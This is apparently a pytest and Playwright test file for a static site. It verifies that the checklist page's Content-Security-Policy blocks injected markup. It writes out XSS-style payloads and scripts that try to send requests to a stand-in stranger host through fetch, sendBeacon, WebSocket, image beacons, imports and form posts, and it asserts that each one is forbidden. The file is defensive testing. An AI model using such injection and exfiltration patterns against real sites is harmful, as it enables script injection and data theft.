"""What somebody's text could do, had it slipped into the page: nothing."""

import re

import pytest
from playwright.sync_api import Page, expect

from pages.private.personal import Watch
from pages.sites import mkdocs

CHECKLIST = "checklist/index.html"
PATIENCE = 10_000
"""Milliseconds; a browser says at once what it forbids."""
SEND_A_FORM = """(() => {{
  const form = document.createElement("form");
  form.action = "{}/a";
  form.method = "post";
  document.body.append(form);
  form.submit();
}})()"""


def policy_of(html: str) -> str:
    return html.partition('Content-Security-Policy" content="')[2].partition('">')[0]


def page_with(personal, tmp_path, markup: str):
    """The personal site with something slipped into the page of the checklist."""
    html = (personal.personal / CHECKLIST).read_text("utf-8")
    at = html.index("</prune-checklist>")
    site = tmp_path / "site"
    site.mkdir()
    for path in personal.personal.iterdir():
        if path.name != "checklist":
            (site / path.name).symlink_to(path)
    (site / "checklist").mkdir()
    (site / CHECKLIST).write_text(html[:at] + markup + html[at:], "utf-8")
    return site


def wait_for_violation(page: Page, watch: Watch) -> None:
    for _ in range(PATIENCE // 50):
        if watch.violations:
            return
        page.wait_for_timeout(50)
    raise AssertionError("nothing was forbidden")


def test_the_page_asks_for_nothing_in_advance(personal):
    """Firefox takes `next` for such a request, and says that the policy forbids it."""
    head = (personal.personal / CHECKLIST).read_text("utf-8").partition("</head>")[0]
    asked = re.findall(
        r'<link rel="?(next|prefetch|preload|prerender|preconnect|dns-prefetch)', head
    )
    assert (asked, '<link rel="prev"' in head) == ([], True)


@pytest.fixture(params=["http", "file"])
def opened(request, page, personal, tmp_path, serve):
    """Open the page with something slipped in, over http or by double click."""

    def open_with(markup: str = "") -> Page:
        site = page_with(personal, tmp_path, markup)
        root = serve(site) if request.param == "http" else site.as_uri()
        page.goto(f"{root}/{CHECKLIST}")
        expect(page.get_by_role("article", name="Wren Inkwell")).to_be_visible()
        return page

    return open_with


@pytest.mark.parametrize(
    ("violation", "markup"),
    [
        ("script-src-elem inline", "<script>window.stolen = true</script>"),
        ("script-src-attr inline", "<details open ontoggle='window.stolen = true'></details>"),
        ("script-src-elem inline", "<iframe srcdoc='<script>top.stolen = true</script>'></iframe>"),
        ("script-src-elem {}/a.js", "<script src='{}/a.js'></script>"),
        ("img-src {}/a.png", "<img src='{}/a.png' alt=''>"),
        ("style-src-elem {}/a.css", "<link rel='stylesheet' href='{}/a.css'>"),
        ("style-src-elem inline", "<style>h1 {{ background: url({}/a.png) }}</style>"),
        ("style-src-attr inline", "<p style='background: url({}/a.png)'></p>"),
        ("frame-src {}", "<iframe src='{}/'></iframe>"),
        ("object-src {}", "<object data='{}/a.pdf'></object>"),
        ("object-src {}", "<embed src='{}/a.pdf'>"),
        ("media-src {}/a.mp3", "<audio src='{}/a.mp3' preload='auto'></audio>"),
        ("base-uri {}", "<base href='{}/'>"),
    ],
)
def test_a_strangers_markup_neither_runs_nor_loads(opened, watch, stranger, violation, markup):
    page = opened(markup.format(stranger.address))
    wait_for_violation(page, watch)
    assert (page.evaluate("window.stolen"), stranger.asked) == (None, [])
    assert violation.format(stranger.address) in [one.rstrip("/") for one in watch.violations]


@pytest.mark.parametrize(
    ("violation", "script"),
    [
        ("connect-src {}/a", "fetch('{}/a').catch(() => 0)"),
        ("connect-src {}/a", "navigator.sendBeacon('{}/a', 'x')"),
        ("connect-src {}/a", "(() => {{ new EventSource('{}/a') }})()"),
        ("connect-src ws{}/a", "(() => {{ try {{ new WebSocket('ws{}/a') }} catch {{}} }})()"),
        ("img-src {}/a.png", "(() => {{ new Image().src = '{}/a.png' }})()"),
        ("script-src-elem {}/a.js", "import('{}/a.js').catch(() => 0)"),
        ("form-action {}/a", SEND_A_FORM),
    ],
)
def test_not_even_a_script_reaches_another_host(opened, watch, stranger, violation, script):
    address = stranger.address.removeprefix("http") if "ws{}" in script else stranger.address
    page = opened()
    page.evaluate(script.format(address))
    wait_for_violation(page, watch)
    assert ([violation.format(address)], []) == (watch.violations, stranger.asked)


def test_a_form_with_an_address_is_not_sent(opened, watch, stranger):
    page = opened(
        f"<form action='{stranger.address}/a' method='post'><button>Win a prize</button></form>"
    )
    page.get_by_role("button", name="Win a prize").dispatch_event("click")
    wait_for_violation(page, watch)
    assert ([f"form-action {stranger.address}/a"], []) == (watch.violations, stranger.asked)


@pytest.mark.parametrize("of", ["personal", "demo"])
def test_the_policy_allows_the_three_scripts_of_the_theme_and_no_other(request, of):
    result = request.getfixturevalue(of)
    site = result.personal if of == "personal" else result.public
    policy = policy_of((site / CHECKLIST).read_text("utf-8"))
    scripts = policy.partition("script-src")[2].partition(";")[0]
    assert (policy[:18], scripts.count("sha256"), "unsafe" in policy) == (
        "default-src 'none'",
        3,
        False,
    )


def test_a_script_that_comes_with_the_people_is_not_among_those_allowed(home, demo):
    """Had a template stopped escaping: the hashes are those of the page before anybody is in it."""
    template = home / "hooks/prune_page/templates/checklist.html"
    template.write_text(template.read_text("utf-8") + "<script>steal()</script>", "utf-8")
    html = (mkdocs(home, "build").public / CHECKLIST).read_text("utf-8")
    before = (demo.public / CHECKLIST).read_text("utf-8")
    assert "<script>steal()</script>" in html
    assert [policy_of(before)] == [policy_of(html)]
